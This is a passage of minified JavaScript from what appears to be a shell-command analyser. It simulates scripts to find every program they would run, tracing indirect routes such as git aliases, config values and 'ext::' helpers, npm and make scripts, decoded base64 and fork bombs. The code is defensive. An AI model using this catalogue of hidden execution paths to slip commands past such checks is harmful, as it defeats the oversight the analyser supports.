glob:e})=>e||/^[\w@%+=:,./-]+$/.test(t)?t:`'${t.replaceAll("'","'\\''")}'`,wi=({text:t})=>/[\s{};|&<>()$'"`]/.test(t),Br=t=>t.map(Hr).join(" ");Ct();var ic=class{constructor(e){this.text=e;this.remaining=e}text;remaining;readRest(){let e=this.remaining;return this.remaining="",e}readLine(){if(this.remaining===
"")return this.text.includes("\uFFFC")?Nt(this.text):void 0;let[e=""]=this.remaining.split(`
`,1);return this.remaining=this.remaining.slice(e.length+1),e}},rt=(t,e,s)=>({...t,input:s,stdin:new ic(e)});var us=64*1024,nm=32,ac=1e4,lc=1e3,Vt=(t,e)=>t.length+e.length>us?"\uFFFC\uFFFB":t+e,ki=class{problem;steps=0;depth=0;invocations=0;spend(e=1){return this.steps+=
e,this.steps>ac&&this.fail("too-much",`takes more than ${ac} steps to read`),this.steps<=ac}spendInvocation(){return this.invocations+=1,this.invocations>lc&&this.
fail("too-much",`more than ${lc} commands`),this.invocations<=lc}descend(e,s){if(this.depth>=nm)return this.fail("too-deep",`commands are nested more than ${nm}\
 deep`),s;this.depth+=1;let r=this.spend()?e():s;return this.depth-=1,r}fail(e,s){this.problem??={kind:e,detail:s}}};var vi=class{constructor(e,s){this.files=e;this.readCode=s}files;readCode;budget=new ki;invocations=[];sources=new Map;activeScripts=[];gitAliases=new Map;substituted=[];record(e){
this.budget.spendInvocation()&&this.invocations.push(e)}reportForkBomb({scope:e,context:s}){this.record(new Rn(this,e,s,[R("fork-bomb")]).createInvocation())}},
Rn=class t{constructor(e,s,r,n){this.interpreter=e;this.scope=s;this.context=r;this.words=n;let o=n[0].text;this.program=o.slice(o.lastIndexOf("/")+1),this.args=
n.slice(1)}interpreter;scope;context;words;program;args;filter;with(e){return Object.assign(new t(this.interpreter,this.scope,this.context,this.words),this,e)}wrap(e=this.
program){return this.with({context:{...this.context,wrappers:[...this.context.wrappers,e]}})}redirect(e){return this.with({context:{...this.context,redirects:[...this.
context.redirects,...e]}})}feedFrom(e=[]){return e.length===0?this:this.with({context:{...this.context,input:{kind:"pipe",from:e}}})}feedFromSubstitution(e){return e.
trimStart().startsWith("\uFFFC")?this.feedFrom(this.interpreter.substituted):this}withoutInput(){return this.with({context:{...this.context,input:void 0}})}consumeInput(){
return this.with({context:rt(this.context,"",void 0)})}createChildScope(e=[R(this.program)]){let s=this.scope.child(e,this.context.environment);return/^(?:ba|k|z)sh$/.
test(this.program)||(s.isFollowed=!1),s}findWritten(e){return this.interpreter.sources.get(e)??this.interpreter.files.written(e,this.scope.folder)}readFiles(e){
return(e.length>0?e:[{text:"-"}]).map(({text:r})=>(r==="-"||r==="/dev/stdin"?this.context.stdin?.readRest():this.findWritten(r)?.text)??"\uFFFC").join("")}write(e,s,r,n="\
write"){let o=s.includes("\uFFFC")?ce(this.context):[];this.interpreter.files[n](e,s,this.scope.folder,r??o)}createInvocation(){let{program:e,words:s,args:r,scope:n,
context:o,filter:i}=this,[a]=n.get("POSIXLY_CORRECT")?.words??[];return{program:e,path:s[0].text,args:r,redirects:o.redirects,environment:{..._e({POSIXLY_CORRECT:a}),
...n.exported(),...o.environment},wrappers:o.wrappers,language:"shell",..._e({input:o.input,filter:i,needs:o.needs,captured:o.captured,folder:n.folder===void 0?
void 0:R(n.folder)})}}record(){return this.interpreter.addInvocation(this)}runWords(e,s=this.scope){return this.interpreter.runWords(e,s,this.wrap().context)}runCommandWords(e){
return e.length===1&&wi(e[0])?this.runShell(e[0].text):this.runWords(e)}runScript(e,s=this.scope){return this.interpreter.runScript(e,s,this.wrap().context)}runShell(e,s){
let r=S.forms.package_runner.test(this.program)?`${this.program} -c`:this.program;return this.interpreter.runScript(e,this.createChildScope(s),this.wrap(r).context)}},
xi=t=>new Map(Object.entries(t).flatMap(([e,s])=>e.split(" ").map(r=>[r,s])));var om=12,In={words:[R("\uFFFC")],exported:!1},_i=class t{constructor(e){this.budget=e}budget;variables=new Map;references=new Map;functions=new Map;aliases=new Map;folder;arguments=[
R("bash")];last="";hasAlternatives=!1;isFollowed=!0;isInFunction=!1;scripts=[];ended;fixed=new Set;environment;get(e){return this.variables.get(this.references.
get(e)??e)}readExact(e){if(/^[1-9]$/.test(e)){let[,...o]=this.arguments;return this.isInFunction&&o.every(({exact:i})=>i)?o[Number(e)-1]?.text??"":void 0}if(!(/^[A-Za-z_]\w*$/.
test(e)&&!S.forms.special_variable.test(e))||!this.scripts.every(o=>K0(e,o)))return;let{words:r=[],alternatives:n=[]}=this.get(e)??{};return r.length===1&&r[0].
exact&&n.length===0?r[0].text:void 0}addReference(e,s){e!==s&&(this.references=new Map(this.references).set(e,s))}value(e){let s=this.references.get(e)??e,r=this.
variables.get(s);return r?r.words[0]?.text??"":s==="PWD"?this.folder??".":s==="_"?this.last:Object.hasOwn(S.shellVariables,s)?S.shellVariables[s]:"\uFFFC"}set(e,s,r=this.
get(e)?.exported??!1){let n=this.references.get(e)??e;this.fixed.has(n)?this.variables.set(n,{...In,exported:r}):this.variables.set(n,{words:s,exported:r}),r&&(this.
environment=void 0)}assign({name:e,append:s,index:r,value:n},o){let i=s||r?this.get(e)?.words??[]:[];r?this.set(e,Y0(i,r.value,o[0])):n.type==="ArrayValue"?this.
set(e,[...i,...o]):this.set(e,s?[R((i[0]?.text??"")+o[0].text,o[0].glob)]:o)}export(e){let s=this.variables.get(e);s&&this.set(e,s.words,!0)}fix(e){this.fixed=new Set(
[...this.fixed,e])}exported(){if(this.environment)return this.environment;this.budget.spend(this.variables.size>>3);let e={};for(let[s,{words:r,exported:n}]of this.
variables)n&&r[0]&&(e[s]=r[0]);return this.environment=e,e}define(e,s){let n=this.functions.get(e)?.bodies??[];this.functions.set(e,{bodies:n.includes(s)?n:[...n,
s],certain:!0})}alias(e,s){this.aliases.set(e,[...this.aliases.get(e)??[],s])}copy(){this.budget.spend(1+(this.variables.size>>3));let e=Object.assign(new t(this.
budget),this);return e.variables=new Map(this.variables),e.functions=new Map([...this.functions].map(([s,r])=>[s,{...r}])),e.aliases=new Map(this.aliases),e}child(e,s={}){
let r=this.copy();for(let[n,o]of this.variables){let i=qn(o.words);r.variables.set(n,o.exported?{...o,words:i}:In)}for(let n of r.functions.values())n.certain=!1;
for(let[n,o]of Object.entries(s))r.set(n,qn([o]),!0);return r.aliases.clear(),r.isInFunction=!1,r.arguments=e,r}same(e){let s=([r,n])=>$i(n)===$i(e.variables.get(
r));return this.variables.size===e.variables.size&&[...this.variables].every(s)}listAlternatives(e){let s=e.map(n=>n&&"text"in n?n.text:"").join(`
`);return[...new Set([...s.matchAll(/\$\{?[!#]?([A-Za-z_]\w*)/g)].map(([,n])=>n))].flatMap(n=>(this.get(n)?.alternatives??[]).map(o=>{let i=this.copy();return i.
set(n,o),i}))}mayBe(e,s){let r=this.variables.get(e)??In,n=r.alternatives??[];if(n.some(i=>cc(i)===cc(s)))return;this.hasAlternatives=!0;let o=n.length<om?s:[R(
"\uFFFC\uFFFB")];n.length<=om&&this.variables.set(e,{...r,alternatives:[...n,o]})}join(e){for(let r of new Set([...this.variables.keys(),...e.variables.keys()])){
let[n,o]=[this.variables.get(r),e.variables.get(r)];if(n===o)continue;$i(n)!==$i(o)?this.set(r,In.words,(n?.exported||o?.exported)??!1):o?.words.some(({exact:a})=>!a)&&
this.variables.set(r,o);let i=Q0([n,o]);if(i.length>1||this.variables.get(r)?.words===In.words)for(let a of i)this.mayBe(r,a)}let s=e.arguments.length>=this.arguments.
length?e.arguments:this.arguments;this.arguments=e.arguments===this.arguments?s:qn(s);for(let[r,{bodies:n,certain:o}]of e.functions){let i=this.functions.get(r)??
{bodies:n,certain:!1},a=[...new Set([...i.bodies,...n])];this.functions.set(r,{bodies:a,certain:i.certain&&o})}for(let[r,n]of this.functions)e.functions.has(r)||
this.functions.set(r,{...n,certain:!1});for(let[r,n]of e.aliases)(this.aliases.get(r)?.length??0)<n.length&&this.aliases.set(r,n);this.folder!==e.folder&&(this.
folder="\uFFFC"),this.ended!==e.ended&&(this.ended=void 0),e.isFollowed||(this.isFollowed=!1)}};function K0(t,e){let s=new RegExp(`\\$\\{?${t}(?!\\w)|(?:^|[\\s;&|\
({])${t}(?==)|\\bfor ${t} in `,"g");return!new RegExp(`(?<!\\w)${t}(?!\\w)`).test(e.replace(s," "))}var qn=t=>t.map(({exact:e,...s})=>s);function Y0(t,e,s=R("")){
let r=/^\d{1,3}$/.test(e)?Number(e):0,n=Math.max(t.length,r+1);return Array.from({length:n},(o,i)=>i===r?s:t[i]??R(""))}var cc=t=>t.map(({text:e})=>e).join("\0"),
$i=t=>t&&cc(t.words),Q0=t=>t.flatMap(e=>e?[e.words,...e.alternatives??[]]:[]).filter(e=>e.some(({text:s})=>s!==""&&(!s.includes("\uFFFC")||Le(s))));var{escapes:X0,forms:im}=S,De=t=>t.map(e=>`${e}
`).join("");function ps(t){return t.replace(im.printf_escape,(e,s,r,n,o,i)=>{if(i!==void 0)return X0[i]??(i==="\\"?"\\":`\\${i}`);let a=o===void 0?Number.parseInt(
s??r??n,16):Number.parseInt(o,8);return a<=1114111?String.fromCodePoint(a):""})}function On([t="",...e]){if(t==="--")return On(e);if(t.startsWith("-v"))return"";
let s="",r=0;do{let n=r;if(s+=J0(t,()=>e[r++]??""),r===n)break}while(r<e.length&&s.length<=us);return s}function J0(t,e){return t.replace(im.printf_directive,(s,r,n,o)=>{
if(s==="%%")return"%";if(o===void 0)return ps(s);r==="*"&&e(),n==="*"&&e();let i=e();if(i.includes("\uFFFC"))return i;if(o==="b")return ps(i);if(o==="c")return i.
slice(0,1);if(o==="s")return/^\d+$/.test(n??"")?i.slice(0,Number(n)):i;let a=/^['"]/.test(i)?i.codePointAt(1)??0:Number(i||0);return Number.isSafeInteger(a)?o===
"x"||o==="X"||o==="o"?a.toString(o==="o"?8:16):"diu".includes(o)?String(a):"\uFFFC":"\uFFFC"})}var Nn=require("node:path");var{forms:As}=S,Z0={"%%":"%","%n":`
`,"%t":"	"},dc=(t,e=Z0)=>t.replace(As.format_field,s=>e[s]??(s.length===1?"\uFFFC\uFFFB":"\uFFFC"));function uc({program:t,args:e}){let{prefix:s,names:r,unread:n,
...o}=S.formats.get(t),{options:i}=j(e,{...o,permuted:!0}),a=s?e.find(({text:l})=>l.startsWith(s))?.text.slice(s.length):r?W(i,...r).at(-1)?.text:e.map(({text:l})=>l).
join(" ");return a===void 0?"\uFFFC":n?new RegExp(n).test(a)?"\uFFFC\uFFFB":"\uFFFC":/^[\w-]+$/.test(a)?"\uFFFC":`${dc(ps(a.replace(/^t?format:/,"")))}
`}function e$(t){let e=t.filter(({text:s})=>!/^(?:--|-z|-c|--cached|-o|--others|--exclude-standard)$/.test(s));return e.some(({text:s})=>s.startsWith("-"))?"\uFFFC":
`${e.map(({text:s})=>/[*.]/.test(s)?s:`${s}/*`).join(`
`)||"*"}
`}var am=({args:t,scope:e})=>{let{operands:s}=j(t,{long:["relative-to","relative-base"],permuted:!0}),r=`${e.value("PWD")}/`,n=s.map(({text:o})=>/^[/~]/.test(o)||
o.startsWith("\uFFFC")?o:r+o);return De(n.map(o=>Nn.posix.normalize(o).replace(/(?<=[^/])\/+$/,"")))},lm={realpath:am,stat:({args:t})=>{let{options:e,operands:s}=j(
t,{short:"cft",long:["format","printf"],permuted:!0}),[r]=W(e,"c","f","t","format","printf");if(!r)return"\uFFFC";let n=s.map(({text:i,glob:a})=>a?i.replaceAll(
"*","\uFFFC"):i),o=ps(r.text);return De(n.map(i=>dc(o,{"%%":"%","%n":i,"%N":i})))},git:t=>{let[e="",s]=t.args.map(({text:r})=>r);return e==="rev-parse"&&s==="--\
show-toplevel"?`.
`:e==="rev-parse"&&s==="--sq-quote"?"\uFFFC\uFFFB":e==="ls-files"&&!t.context.isPiped?e$(t.args.slice(1)):As.git_filter.test(e)?Te(t.context.stdin?.remaining||"\
\uFFFC"):uc(t)},seq:({args:t})=>{let{options:e,operands:s}=j(t,{short:"fs",long:["format","separator"]}),r=W(e,"f","s","format","separator");if(r.length>0)return r.
every(({text:c})=>As.harmless.test(c))?"\uFFFC":"\uFFFC\uFFFB";let n=s.map(({text:c})=>Number(c)),[o,i,a]=n.length===3?n:n.length===2?[n[0],1,n[1]]:[1,1,n[0]],l=Math.
floor((a-o)/i)+1;return!(l<=100)||![o,i].every(Number.isSafeInteger)?"\uFFFC":De(Array.from({length:Math.max(0,l)},(c,d)=>`${o+d*i}`))},readlink:t=>t.args.some(
({text:e})=>/^-\w*[fem]|^--canon/.test(e))?am(t):"\uFFFC",basename:({args:t})=>{let{options:e,operands:s}=j(t,{short:"s",long:["suffix"]}),[r]=W(e,"s","suffix"),
n=r!==void 0||z(e,"a","multiple"),o=r??(n?void 0:s[1]),i=n?s:s.slice(0,1);if(o&&!Ie(o))return De(i.map(({text:l})=>Te(l)));let a=l=>Nn.posix.basename(l,o?.text)||
Nn.posix.basename(l)||l.slice(0,1);return De(i.map(({text:l})=>a(l)))},dirname:({args:t})=>{let e=j(t,{permuted:!0}).operands;return De(e.map(s=>(Ie(s)?Nn.posix.
dirname:Te)(s.text)))},jq:({args:t,context:e})=>{let{options:s,operands:r}=j(t,{short:"fL",long:["from-file","indent"],permuted:!0}),n=s.some(({name:p})=>/^(?:(?:json)?args|arg(?:json)?|slurpfile|rawfile)$/.
test(p)),o=n?r.findIndex(({text:p})=>/[.$"[|]/.test(p)):0,a=((z(s,"f","from-file")?void 0:r[Math.max(0,o)])?.text??"").replace(As.jq_choosing,""),l=[...a.matchAll(
As.jq_text)].map(([,p])=>p.replace(As.jq_interpolation,"\uFFFC")),c=As.jq_making.test(a)&&(l.length>0||/\bimplode\b/.test(a)),d=/\benv\b|\$ENV/.test(a)&&Object.
values(e.environment).some(Ie),u=l.every(p=>As.plain_text.test(p));return c||d||n&&/\$/.test(a)||!u?"\uFFFC\uFFFB":Te(e.stdin?.remaining||"\uFFFC")}},cm=(t,e,s)=>e.
map(r=>dc(ps(t),{"%%":"%","%p":r,"%H":s})).join("");function Ci(t){let{program:e}=t;if(t$.unique_output.test(le(t)))return`${S.uniqueMark}00
`;let s=S.formats.has(e)?uc:void 0,r=n$.get(e)??(S.programWords.filters.has(e)?hm:s),n=r?r(t):S.programWords.silent.has(e)?"":"\uFFFC";return n.length>us?"\uFFFC\uFFFB":
(t.interpreter.budget.spend(n.length>>6),n)}var{forms:t$}=S,s$=16,dm=1024,Si=({args:t})=>t.map(({text:e})=>e),mr=(t,e="",s=!1)=>r=>{let n=j(r.args,{short:e,permuted:!0}),
o=r.readFiles(n.operands);return o.includes("\uFFFC")?s?o:Te(o):t(o,n)??"\uFFFC\uFFFB"},pc=(t,e)=>mr(t,e,!0),mm=(t,e)=>{let s=e.replace(/\s+/g,"");return(t==="h\
ex"?/^[\da-f]*$/i:/^[\w+/=-]*$/).test(s)?Buffer.from(s,t).toString("utf8"):"\uFFFC\uFFFB"},um=mr((t,{options:e})=>z(e,"d","D","decode")?mm("base64",t):`${Buffer.
from(t).toString("base64")}
`,"w"),Ln=t=>t.replace(/\n$/,"").split(`
`),pm=t=>pc((e,{options:s})=>{let r=s.map(({name:i})=>i).join(""),n=W(s,"n","lines")[0]?.text??(/^\d+$/.test(r)?r:"10"),o=Ln(e);if(!(!/^\d{1,6}$/.test(n)||z(s,"\
c","bytes")))return De(t?o.slice(-Number(n)):o.slice(0,Number(n)))},"cn");function r$(t,{options:e}){if(e.some(({name:r})=>!/^(?:[uo]|unique|output)$/.test(r)))
return;let s=Ln(t).sort();return De(z(e,"u","unique")?[...new Set(s)]:s)}function hm(t){let s=j(t.args,{permuted:!0}).operands.slice(0,s$).map(({text:n})=>t.findWritten(
n)?.text??"");return[t.context.stdin?.remaining??"",...s].filter(n=>n!=="").some(n=>Te(n)==="\uFFFC\uFFFB")?"\uFFFC\uFFFB":"\uFFFC"}function fm(t){let{options:e,
operands:s}=j(t.args,{permuted:!0}),r=t.context.stdin?.readRest()??"\uFFFC",n=z(e,"a","append")?"append":"write";for(let{text:o}of s)t.write(o,r,void 0,n);return r}
var n$=xi({echo:t=>{let e=Si(t),s=0;for(;/^-[neE]+$/.test(e[s]??"");)s+=1;let r=e.slice(0,s).join(""),n=e.slice(s).join(" ");return(r.includes("e")?ps(n):n)+(r.
includes("n")?"":`
`)},printf:t=>On(Si(t)),cat:t=>t.readFiles(j(t.args,{permuted:!0}).operands),base64:um,openssl:t=>t.args[0]?.text==="base64"?um(t.with({args:t.args.slice(1)})):
hm(t),xxd:mr((t,{options:e})=>z(e,"r")&&z(e,"p","ps")?mm("hex",t):void 0),rev:mr(t=>De(Ln(t).map(e=>[...e].reverse().join("")))),tac:mr(t=>De(Ln(t).reverse())),
tr:t=>{let e=t.context.stdin?.readRest()??"\uFFFC";return e.includes("\uFFFC")?Te(e):o$(e,Si(t))??"\uFFFC\uFFFB"},head:pm(!1),tail:pm(!0),cut:mr((t,{options:e})=>{
let[s]=W(e,"c","b","f"),r=/^(\d*)(-?)(\d*)$/.exec(s?.text??"");if(!r)return;let n=Math.max(1,Number(r[1]||1)),o=r[2]===""?n:Number(r[3]||us),i=W(e,"d")[0]?.text??
"	",a=z(e,"f"),l=c=>(a?c.split(i):[...c]).slice(n-1,o).join(a?i:"");return De(Ln(t).map(l))},"cbfd"),sort:t=>{let e=pc(r$,"oktST")(t),{options:s}=j(t.args,{short:"\
oktST",long:["output"],permuted:!0}),[r]=W(s,"o","output");return r&&t.write(r.text,e),r?"":e},uniq:pc((t,{options:e})=>z(e,"c","count","f","s","w")?void 0:t),mktemp:({
args:t})=>{let{options:e,operands:s}=j(t,{short:"p",long:["suffix"],permuted:!0}),[r]=W(e,"p","tmpdir"),n=s[0]?s[0].text.replace(/X{3,}/,"\uFFFC"):`tmp.${"\uFFFC"}`,
o=r?.text??(s[0]&&!z(e,"t","tmpdir")?void 0:"/tmp");return`${o===void 0?n:`${o}/${n}`}
`},strings:mr(t=>t),ls:({args:t})=>{let{options:e,operands:s}=j(t,{permuted:!0});return!z(e,"d","directory")||z(e,"l")||s.length===0?"\uFFFC":De(s.map(({text:r})=>r.
replaceAll("*","\uFFFC")))},yes:t=>`${Si(t).join(" ")||"y"}
`.repeat(10),pwd:({scope:t})=>`${t.value("PWD")}
`,"which type":({args:t})=>{let{operands:e}=j(t,{permuted:!0});return e.map(({text:s})=>s.includes("/")?s:`/usr/bin/${s}`).join(`
`)},tee:fm,sponge:t=>{let e=fm(t);return t.args.length>0?"":e},grep:t=>{let{options:e,operands:s}=j(t.args,S.getopt.grep);if(z(e,"c","count","q","quiet"))return"\
\uFFFC";let r=z(e,"e","regexp","f","file")?s:s.slice(1),n=z(e,"r","R","recursive");if(z(e,"l","L","files-with-matches","files-without-match")){let i=r.map(({text:a})=>a.
replaceAll("*","\uFFFC"));return De(n?i.map(a=>`${a}/${"\uFFFC"}`):i)||"\uFFFC"}if(n)return"\uFFFC";let o=t.readFiles(r);return z(e,"o","only-matching","n","H",
"b")?Te(o):o},dd:t=>{let e=l=>t.args.find(({text:c})=>c.startsWith(l))?.text.slice(l.length),[s,r]=[e("if="),e("of=")],o=(s===void 0?t.context.stdin?.readRest():
t.findWritten(s)?.text)??"\uFFFC",a=t.args.some(l=>/^(?:skip|count|conv|bs|ibs)=/.test(l.text))?Te(o):o;return r===void 0?a:(t.write(r,a),"")},...lm});function o$(t,e){
let s=e.filter(i=>/^-[cCdst]+$/.test(i)).join(""),[r,n]=e.filter(i=>!/^-[cCdst]+$/.test(i)).map(i$);if(r===void 0||/[cCs]/.test(s))return;if(s.includes("d"))return[
...t].filter(i=>!r.includes(i)).join("");if(n===void 0||n.length===0)return;let o=new Map(r.map((i,a)=>[i,n[Math.min(a,n.length-1)]]));return[...t].map(i=>o.get(
i)??i).join("")}function i$(t){return[...ps(t.replace(/\[:(\w+):\]/g,(r,n)=>S.characterClasses[n]??"")).slice(0,dm).replace(/([\s\S])-([\s\S])/gu,(r,n,o)=>{let i=n.
codePointAt(0),a=o.codePointAt(0)-i+1;return a<1||a>256?r:String.fromCodePoint(...Array.from({length:a},(l,c)=>i+c))})].slice(0,dm)}var bm=require("node:path");var{forms:a$}=S,gm={"git-dir":"GIT_DIR","work-tree":"GIT_WORK_TREE"},l$=8;function ym(t){let{options:e,operands:s}=j(t.args,S.getopt.git),r={...t.context.environment},
n=c$(e,r,t);for(let{name:l,value:c}of e)gm[l]&&c&&(r[gm[l]]=c);let o=t.scope.copy();for(let{text:l}of W(e,"C"))o.folder=/^[/~]/.test(l)||o.folder===void 0?l:bm.posix.
normalize(`${o.folder}/${l}`);let i=t.with({args:s,scope:o,context:{...t.context,environment:r}});for(let[l,c]of n)a$.git_settings.test(l)&&i.runShell(c.replace(
/^!/,""));let a=t.context.wrappers.includes("git")?{}:{...t.scope.exported(),...r};for(let l of S.gitVariables)a[l]!==void 0&&i.runShell(a[l].text);return wm(i,
n,0)}function c$(t,e,{scope:s}){let r=[],n=s.exported(),o=a=>(e[a]??n[a])?.text,i=Number(o("GIT_CONFIG_COUNT")??0)||0;for(let a=0;a<Math.min(i,50);a+=1)r.push([
o(`GIT_CONFIG_KEY_${a}`)??"",o(`GIT_CONFIG_VALUE_${a}`)??"\uFFFC"]);for(let[,a,l]of(o("GIT_CONFIG_PARAMETERS")??"").matchAll(/'([^'=]+)'?='?([^']*)'/g))r.push([
a,l]);for(let{text:a}of W(t,"c")){let[,l=a,c="true"]=/^([^=]+)=([\s\S]*)$/.exec(a)??[];r.push([l,c]),e[`GIT_CONFIG_KEY_${i}`]=R(l),e[`GIT_CONFIG_VALUE_${i}`]=R(
c),i+=1,e.GIT_CONFIG_COUNT=R(String(i))}for(let{text:a}of W(t,"config-env")){let[l="",c=""]=a.split("=");r.push([l,(e[c]??s.get(c)?.words[0])?.text??"\uFFFC"])}
return r}function wm(t,e,s){let[r,...n]=t.args;if(r===void 0)return t.record();let o=r.text,i=e.findLast(([h])=>h.toLowerCase()===`alias.${o.toLowerCase()}`)?.[1]??
t.interpreter.gitAliases.get(o);if(i!==void 0&&s<l$){if(i.startsWith("!"))return t.runShell(`${i.slice(1)} "$@"`,[R("git"),...n]);let h=i.trim().split(/\s+/),g=xe(
h.map(y=>y.replace(/^(["'])(.*)\1$/,"$2")));return wm(t.with({args:[...g,...n]}),e,s+1)}let a=t.record(),{code:l=[],...c}=S.gitCode.get(o)??{},{options:d,operands:u}=j(
n,{...c,permuted:!0});for(let{text:h}of W(d,...l))t.runShell(h);o==="bisect"&&n[0]?.text==="run"&&t.runCommandWords(n.slice(1));let[,p]=/(?:^| )foreach (?:(?:--recursive|-q|--quiet) )?([\s\S]*)/.
exec(oe(n).text)??[];o==="submodule"&&p!==void 0&&t.runShell(p);for(let{text:h}of u)h.startsWith("ext::")&&t.runShell(h.slice(5).replaceAll("% ","\\ "));let f=o===
"config"?n.findIndex(({text:h})=>/^alias\./i.test(h)):-1,m=n[f+1]?.text;return f!==-1&&m!==void 0&&t.interpreter.gitAliases.set(n[f].text.slice(6),m),a}Ct();var d$={t:"test",i:"install",ci:"install",add:"install"},u$=4,km=4096,Ei=(t,e)=>[...t.matchAll(e)].map(([,s,r])=>[s,r]);function vm(t,e){let s=t;for(let r=0;r<u$&&
s.length<km;r+=1)s=s.replace(/(?<!\$)\$(?:\(([\w.]+)\)|\{([\w.]+)\})/g,(n,o,i)=>e.get(o??i)??(i===void 0?n:`\${${i.replaceAll(".","_")}}`));return s.length<km?s.
replaceAll("$$","$"):"\uFFFC\uFFFB"}function xm(t){let e=t.findWritten("package.json")?.text;if(e===void 0)return;let[s="",r]=t.args.filter(({text:i})=>!i.startsWith(
"-")).map(({text:i})=>i),n=/^(?:run|run-script|rum|urn)$/.test(s)?r:d$[s]??s,{scripts:o}=_n(e)??{};for(let i of[`pre${n}`,n,`post${n}`]){let a=o?.[i];typeof a!=
"string"||t.interpreter.activeScripts.includes(`script ${i}`)||(t.interpreter.activeScripts.push(`script ${i}`),t.runShell(a),t.interpreter.activeScripts.pop())}}
var $m={"make gmake":t=>{t.record();let{options:e}=j(t.args,S.getopt.make),s=z(e,"n","dry-run","just-print","recon")&&!z(e,"eval","E","no-dry-run"),r=W(e,"f","f\
ile","makefile").map(({text:i})=>i),n=W(e,"eval","E").map(({text:i})=>i);for(let i of r.length>0?r:["Makefile","makefile","GNUmakefile"])n.push((i==="-"?t.context.
stdin?.readRest():t.findWritten(i)?.text)??"");let o=t.args.flatMap(({text:i})=>Ei(i,/^([\w.]+)=([\s\S]*)$/g));for(let[i,a]of o)i==="SHELL"&&t.runShell(a);for(let i of n){
let a=Ei(i,/^(?:export |override )?([\w.]+)[ \t]*(?::{0,3}|[?+])=[ \t]*([^\n]*)$/gm),l=new Map([...Object.entries(S.makeVariables),...a,...o]);for(let[,c]of i.matchAll(
/\$\(shell\s+((?:[^()]|\([^()]*\))*)\)/g))t.runShell(vm(c,l));for(let c of i.replaceAll(`\\
`," ").split(`
`)){let[,d,u]=/^(?:\t|[^\t=#:]+:[^=;]*;)[\t ]*([@+-]*)(.*)/.exec(c)??[],p=s&&!/^-?include\b/m.test(i)&&!d?.includes("+")&&!/\$[({]MAKE\b/.test(c);u!==void 0&&!p&&
t.runShell(vm(u,l))}}return"\uFFFC"},just:t=>{t.record();let{options:e}=j(t.args,S.getopt.just),s=W(e,"f","justfile").map(({text:n})=>n);s.length===0&&s.push("j\
ustfile","Justfile",".justfile");let r=s.map(n=>t.findWritten(n)?.text??"").join(`
`);for(let[,n]of r.matchAll(/^[ \t]+[@-]*(\S.*)/gm))t.runShell(n.replace(/\{\{[^}]*\}\}/g,"\uFFFC"));return"\uFFFC"}};var p$=16,f$=/^([A-Za-z_]\w*)=([\s\S]*)$/g;function m$(t,e,{options:s,operands:r,code:n,files:o,reads:i}){let{args:a,scope:l,context:c}=t,[d]=r,u=d!==void 0&&(o.
includes(d)||n.includes(d)||i&&d.text==="-"),p=e==="python"?a.findIndex($=>n.includes($)):-1,f=p>=0?a.slice(p+1):r.slice(u?1:0),m=e==="awk",g=m||(e==="perl"||e===
"ruby")&&z(s,"n","p")?f.slice(0,p$).flatMap(({text:$})=>t.findWritten($)?.text??[]):[],y=i||c.stdin?.remaining==="\uFFFC"?void 0:c.stdin?.remaining,x=m?[...W(s,
"v","assign"),...f]:[];return{args:f,environment:{...l.exported(),...c.environment},variables:new Map(x.flatMap(({text:$})=>Ei($,f$))),..._e({script:u&&o.includes(
d)?d.text:void 0,input:g.length>0?g.join(""):y||void 0,separator:m?W(s,"F","field-separator")[0]?.text:void 0,printsLast:e==="javascript"&&z(s,"p","print")||void 0})}}
var{interpreters:_m,forms:hr}=S;function Ai(t){let e=Sm(t.slice(t.lastIndexOf("/")+1));return/^(ba|da|z|k|a|mk)?sh$/.test(e)?"shell":_m.get(e)?.language}var Sm=t=>t.
replace(/\.exe$/i,"").replace(/^(python|pypy|perl|ruby|php|lua)[\d.]+$/,"$1").replace(/^pypy$/,"python");function h$(t,e,s){let{code:r=[],module:n=[],operands:o}=s,
{options:i,operands:a}=j(y$(e,t.args),s),l=W(i,...r),c=W(i,...s.files??[]);o==="code"&&l.length===0&&c.length===0&&l.push(...e==="redis-cli"&&a.length>0?[oe(a)]:
a.slice(0,1)),o==="database then code"&&l.push(...a.slice(1)),l.length===0&&c.length===0&&c.push(...xe(s.usual??[])),o==="database then files"&&c.push(...a.filter(
({text:m})=>/\.(?:m?js|mongodb)$/.test(m))),i.some(({value:m})=>m?.text.startsWith("data:"))&&t.interpreter.budget.fail("too-much","code in an address is not fo\
llowed");let[d]=W(i,...n);d?.text==="timeit"&&l.push(...a.filter(({text:m})=>!/^-\w*[nru]?\d*$/.test(m)));let u=o===void 0&&l.length===0&&!z(i,...n);u&&a[0]&&a[0].
text!=="-"&&c.push(a[0]);let p=W(i,...r.filter(m=>m==="init-command")),f=c.some(({text:m})=>/^(?:-|\/dev\/stdin|\/dev\/fd\/0)$/.test(m))||l.length===p.length&&c.
length===0&&(u||o!==void 0);return{options:i,operands:a,code:l,files:c,reads:f}}function Ti(t){let e=Sm(t.program),s=_m.get(e);if(!s)return;let{language:r}=s,n=h$(
t,e,s),{options:o,operands:i,code:a,files:l,reads:c}=n,[d,u]=i;e==="redis-cli"&&u&&/^eval$/i.test(d.text)&&t.runWords(xe(["lua","-e",u.text]));let p=(c?t:t.withoutInput()).
feedFromSubstitution(a[0]?.text??""),[f]=l.map(({text:D})=>t.findWritten(D)?.from),m=r==="awk"?Ci(t):void 0,h={code:oe(a).text,from:ce(t.context)},g=t.args.filter(
D=>!a.includes(D)||D.text.includes("\uFFFC")),y=p.feedFrom(f).with({args:g,...r==="awk"&&{filter:h}}).record(),x=m$(t,r,n),$=[...[...a,...g$(t.args,i,s)].map(({
text:D})=>D),...l.flatMap(({text:D})=>t.findWritten(D)?.text??[])];e==="perl"&&z(o,"i")&&z(o,"n")&&a.length>0&&!a.some(({text:D})=>/\bprintf?\b(?! if 0\b)|\b(?:say|\w*write)\b/.
test(D))&&t.runWords(xe(["truncate","-s","0"]).concat(i));let _=o.map(({name:D,value:ve})=>D==="M"?`M${ve?.text}`:D);if($.length>0&&_.some(D=>s.checks?.includes(
D))&&_.every(D=>hr.checking_option.test(D))&&!$.some(D=>hr.early_code.test(D)))return y;let q=e.startsWith("ipython")?$.map(b$):$,P=Cm(r,q,t.wrap(),c,x),N=P!==""&&
(m==="\uFFFC"||hr.awk_field.test(h.code));return m!==void 0?N?P:m:r==="sql"?Em(a.map(({text:D})=>D))??y:P===""||z(o,"p")&&e!=="node"?y:P}function Cm(t,e,s,r,n){
let o=e.map(a=>fs(t,a,s,n)),i=r?s.context.stdin?.readRest():void 0;return i!==void 0&&o.push(fs(t,i,s.consumeInput(),n)),o.join("")}function g$(t,[e,...s],r){if(!e||
